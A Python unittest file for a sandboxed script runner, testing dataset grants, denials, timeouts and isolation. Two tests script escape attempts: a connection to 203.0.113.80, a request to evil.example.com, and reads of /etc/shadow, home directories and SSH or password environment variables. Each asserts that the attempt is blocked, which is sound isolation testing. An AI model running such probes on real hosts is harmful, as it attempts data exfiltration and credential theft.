# SPDX-License-Identifier: Apache-2.0
"""`cloister run`: ordinary Python in a sealed cell, with the datasets that were granted and no others."""

import json
import unittest

from studio import StudioTest


class RunTest(StudioTest):
    def test_run_answers_with_the_promised_keys(self):
        answer = self.run_script("print('hello')")
        self.assertEqual(answer.code, 0, answer.err)
        for key in ("status", "stdout", "stderr", "outputs", "attempts", "seconds"):
            self.assertIn(key, answer.json)
        self.assertEqual((answer.json["status"], answer.json["stdout"]), ("ok", "hello\n"))

    def test_a_granted_dataset_arrives_as_a_table(self):
        self.import_people()
        script = "import cloister\ndf = cloister.dataset('people').to_pandas()\nprint(len(df), df.los.sum())"
        answer = self.run_script(script, "--dataset", "people")
        self.assertEqual(answer.json["stdout"], "3 16\n", answer.json["stderr"])

    def test_parameters_stand_in_the_arguments_of_the_script(self):
        answer = self.run_script("import sys; print(sys.argv[1:])", "-p", "year=2024", "-p", "note=a = b, -p")
        self.assertEqual(answer.json["stdout"], "['year=2024', 'note=a = b, -p']\n", answer.err)
        for wrong in ("year", "=1", "2x=1", "a b=1", ""):
            answer = self.run_script("pass", "-p", wrong)
            self.assertEqual(answer.code, 2, wrong)
            self.assertIn("NAME=VALUE", answer.err)

    def test_a_dataset_that_was_not_granted_is_denied_with_the_way_to_it(self):
        self.import_people()
        self.import_people("others")
        script = (
            "import cloister\n"
            "try:\n    cloister.dataset('people').to_pandas()\n"
            "except cloister.Denied as denied:\n    print('denied', denied.code, denied.hint)\n"
            "print(cloister.query('select count(*) n from others').to_pandas().n[0])\n"
            "print([d.name for d in cloister.datasets()])\n"
        )
        answer = self.run_script(script, "--dataset", "others")
        lines = answer.json["stdout"].splitlines()
        self.assertTrue(lines[0].startswith("denied policy.denied"), answer.json)
        self.assertIn("--dataset people", lines[0])
        self.assertEqual(lines[1:], ["3", "['others']"])

    def test_query_of_a_dataset_that_was_not_granted_is_denied(self):
        self.import_people()
        script = "import cloister\ncloister.query('select * from people')"
        answer = self.run_script(script)
        self.assertEqual(answer.json["status"], "error")
        self.assertIn("Denied", answer.json["stderr"])

    def test_a_hidden_and_a_missing_dataset_give_the_same_answer(self):
        self.import_people()
        script = (
            "import cloister\n"
            "for name in ('people', 'nobody'):\n"
            "    try:\n        cloister.dataset(name).to_arrow()\n"
            "    except cloister.Error as error:\n"
            "        print(type(error).__name__, str(error).replace(name, 'X'))\n"
        )
        lines = self.run_script(script).json["stdout"].splitlines()
        self.assertEqual(len(lines), 2)
        self.assertEqual(lines[0], lines[1])

    def test_the_worker_of_a_cell_names_no_other_dataset(self):
        self.import_people()
        self.import_people("others")
        script = (
            "import cloister\n"
            "cloister.query('select * from others').to_arrow()\n"
            "for statement in ('select database_name from duckdb_databases()', 'select view_name from duckdb_views()',"
            " 'select table_name from information_schema.tables', 'select sql from duckdb_views()'):\n"
            "    try:\n        print(cloister.query(statement).to_arrow().to_pylist())\n"
            "    except cloister.Error as error:\n        print(error.code)\n"
        )
        answer = self.run_script(script, "--dataset", "others")
        self.assertEqual(answer.json["status"], "ok", answer.json["stderr"])
        self.assertNotIn("people", answer.json["stdout"])

    def test_save_makes_an_encrypted_dataset_with_its_lineage(self):
        self.import_people()
        script = (
            "import cloister\ndf = cloister.dataset('people').to_pandas()\ncloister.save(df[df.ward == 'A'], 'ward_a')"
        )
        answer = self.run_script(script, "--dataset", "people")
        self.assertEqual(answer.json["status"], "ok", answer.json["stderr"])
        shown = self.cloister("data", "show", "ward_a").json
        self.assertEqual((shown["rows"], shown["lineage"]), (2, ["people@1"]))
        self.assertEqual(self.cloister("data", "verify").code, 0)

    def test_display_puts_tables_and_figures_into_outputs(self):
        script = (
            "import cloister, pandas as pd\nimport matplotlib.pyplot as plt\n"
            "cloister.display(pd.DataFrame({'a': [1, 2]}))\n"
            "figure, axes = plt.subplots()\naxes.plot([1, 2])\ncloister.display(figure)\n"
        )
        answer = self.run_script(script)
        mimes = [output["mime"] for output in answer.json["outputs"]]
        self.assertIn("text/html", mimes, answer.json["stderr"])
        self.assertIn("image/png", mimes)

    def test_an_exception_is_status_error_with_its_traceback(self):
        answer = self.run_script("x = 1\nraise ValueError('no')")
        self.assertEqual((answer.code, answer.json["status"]), (0, "error"))
        self.assertIn("ValueError: no", answer.json["stderr"])

    def test_a_run_past_its_time_is_status_timeout(self):
        answer = self.run_script("import time\nwhile True: time.sleep(1)", "--timeout", "2s")
        self.assertEqual(answer.json["status"], "timeout")
        self.assertLess(answer.json["seconds"], 8)

    def test_a_killed_run_is_status_killed(self):
        answer = self.run_script("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
        self.assertEqual(answer.json["status"], "killed")

    def test_attempts_to_leave_are_refused_recorded_and_watched(self):
        script = (
            "import socket, urllib.request\n"
            "for way in (lambda: socket.create_connection(('203.0.113.80', 443), 2),\n"
            "            lambda: urllib.request.urlopen('http://evil.example.com/?q=1', timeout=3)):\n"
            "    try:\n        way()\n        print('sent')\n    except OSError as error:\n        print('refused')\n"
        )
        answer = self.run_script(script)
        self.assertEqual(answer.json["stdout"], "refused\nrefused\n")
        self.assertEqual((answer.json["interfaces"], answer.json["unrouted"]), (["lo"], 0), "the second witness")
        watched = self.cloister("watch").json["attempts"]
        for key in ("time", "cell", "notebook", "pid", "program", "operation", "family", "address", "port", "host"):
            self.assertIn(key, watched[0])
        self.assertIn(("connect", "203.0.113.80", 443), [(a["operation"], a["address"], a["port"]) for a in watched])
        self.assertIn("evil.example.com", [a["host"] for a in watched])
        self.assertEqual(len(watched), len(answer.json["attempts"]))

    def test_the_cell_sees_nothing_of_the_host(self):
        canary = self.file("canary.txt", "Qxzvk")
        script = (
            "import os\n"
            f"for path in ({str(canary)!r}, {str(self.home)!r}, '/root', '/etc/shadow', '/home'):\n"
            "    try:\n        print(os.listdir(path) if os.path.isdir(path) else open(path).read(5))\n"
            "    except OSError as error:\n        print('nothing')\n"
            "print(sorted(k for k in os.environ if k.startswith(('CLOISTER_PASS', 'XDG', 'SSH'))))\n"
        )
        lines = self.run_script(script).json["stdout"].splitlines()
        self.assertNotIn("Qxzvk", lines)
        self.assertTrue(all(line in ("nothing", "[]", "['cell']") for line in lines), lines)

    def test_what_the_script_writes_is_gone_with_the_cell(self):
        first = self.run_script("open('left.txt', 'w').write('x')\nprint('ok')")
        second = self.run_script("import os\nprint(os.path.exists('left.txt'))")
        self.assertEqual((first.json["stdout"], second.json["stdout"]), ("ok\n", "False\n"))

    def test_runs_through_the_server_are_the_same(self):
        self.import_people()
        with self.server():
            self.cloister("data", "list")
            script = "import cloister\nprint(cloister.dataset('people').rows)"
            answer = self.run_script(script, "--dataset", "people")
            self.assertEqual(answer.json["stdout"], "3\n", answer.json["stderr"])

    def test_a_notebook_says_that_it_comes_later(self):
        answer = self.cloister("run", self.file("n.ipynb", json.dumps({"cells": []})))
        self.assertEqual(answer.code, 2)

    def test_a_granted_dataset_must_exist(self):
        answer = self.run_script("print(1)", "--dataset", "nobody")
        self.assertEqual(answer.code, 1)
        self.assertIn("nobody", answer.error["message"])


if __name__ == "__main__":
    unittest.main()
